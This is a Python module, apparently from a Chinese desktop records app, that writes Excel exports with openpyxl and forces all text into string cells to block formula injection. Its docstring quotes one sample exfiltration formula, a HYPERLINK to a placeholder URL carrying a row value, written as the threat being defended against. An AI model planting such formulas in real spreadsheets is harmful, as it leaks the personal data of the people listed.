"""Writing spreadsheets people can use at once: a bold frozen header row with filters, columns wide
enough for Chinese text, dates as real dates, ID numbers, phones and 户编号 as text (never
``5.13301E+17``), and long text wrapped. Written to a temporary name and renamed when complete.

Every value reaches a cell through :func:`set_value`, and text there is always a string cell: openpyxl
would make ``=HYPERLINK("http://…?leak="&A2,"点击查看")`` typed as a member's name a live formula that
sends the row away when the township opens the file. Nothing we write is ever a formula."""

from __future__ import annotations

import datetime as dt
import unicodedata
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from desktop.domain.errors import InvalidInput
from desktop.store.atomic_file import atomic_writer

MIN_WIDTH = 6
MAX_WIDTH = 50  # wider text wraps
DATE_FORMAT = "yyyy-mm-dd"
AMOUNT_FORMAT = "0.00"
TEXT_FORMAT = "@"
_HEADER_FILL = PatternFill(fill_type="solid", start_color="FFDDEBF7", end_color="FFDDEBF7")
_FILLS = {
    "red": PatternFill(fill_type="solid", start_color="FFFFC7CE", end_color="FFFFC7CE"),
    "yellow": PatternFill(fill_type="solid", start_color="FFFFEB9C", end_color="FFFFEB9C"),
}


@dataclass
class SheetData:
    title: str
    headers: list[str]
    rows: list[list[Any]]
    text_columns: frozenset[int] = frozenset()  # 0-based columns always written as text
    fills: dict[tuple[int, int], str] = field(default_factory=dict)  # (row, column), 0-based -> red/yellow


def write_workbook(path: Path, sheets: list[SheetData]) -> None:
    if path.suffix.lower() != ".xlsx":
        raise InvalidInput(f"导出文件名应以 .xlsx 结尾：{path.name}")
    workbook = Workbook(write_only=True)
    for data in sheets:
        _write_sheet(workbook.create_sheet(data.title), data)
    try:
        with atomic_writer(path) as handle:
            workbook.save(handle)
    except PermissionError:
        raise InvalidInput(f"无法写入 {path}：文件可能正在 Excel 或 WPS 中打开，请关闭后重试") from None


def display_width(value: Any) -> int:
    """How many character cells a value takes: a Chinese character counts two."""
    if value is None:
        return 0
    if isinstance(value, dt.date):
        return 10
    text = value if isinstance(value, str) else str(value)
    return max(
        (
            sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line)
            for line in text.splitlines()
        ),
        default=0,
    )


def _write_sheet(sheet: WriteOnlyWorksheet, data: SheetData) -> None:
    widths = [display_width(h) for h in data.headers]
    for row in data.rows:
        for index, value in enumerate(row):
            widths[index] = max(widths[index], display_width(value))
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(
            max(width + 2, MIN_WIDTH), MAX_WIDTH + 2
        )
    sheet.freeze_panes = "A2"
    last = get_column_letter(max(len(data.headers), 1))
    sheet.auto_filter.ref = f"A1:{last}{len(data.rows) + 1}"
    header_cells = []
    for text in data.headers:
        cell = text_cell(sheet, text)
        cell.font = Font(bold=True)
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        header_cells.append(cell)
    sheet.append(header_cells)
    wrap = Alignment(wrap_text=True, vertical="top")
    for row_index, row in enumerate(data.rows):
        cells = []
        for index, value in enumerate(row):
            cell = text_cell(sheet, _value(value, index in data.text_columns))
            if index in data.text_columns:
                cell.number_format = TEXT_FORMAT
            elif isinstance(value, dt.date):
                cell.number_format = DATE_FORMAT
            elif isinstance(value, Decimal):
                cell.number_format = AMOUNT_FORMAT
            if isinstance(value, str) and display_width(value) > MAX_WIDTH:
                cell.alignment = wrap
            fill = data.fills.get((row_index, index))
            if fill is not None:
                cell.fill = _FILLS[fill]
            cells.append(cell)
        sheet.append(cells)


def set_value(cell: Cell | WriteOnlyCell, value: Any) -> None:
    """The one way a value goes into a cell we write: text is a string cell whatever its first
    character (``=``, ``+``, ``-``, ``@`` …), never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f") just above


def text_cell(sheet: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
    """A cell for a write-only sheet, holding ``value`` as :func:`set_value` puts it."""
    cell = WriteOnlyCell(sheet)
    set_value(cell, value)
    return cell


def _value(value: Any, as_text: bool) -> Any:
    if value is None or value == "":
        return None
    if as_text:
        return str(value)
    if isinstance(value, bool):
        return "是" if value else "否"
    return value
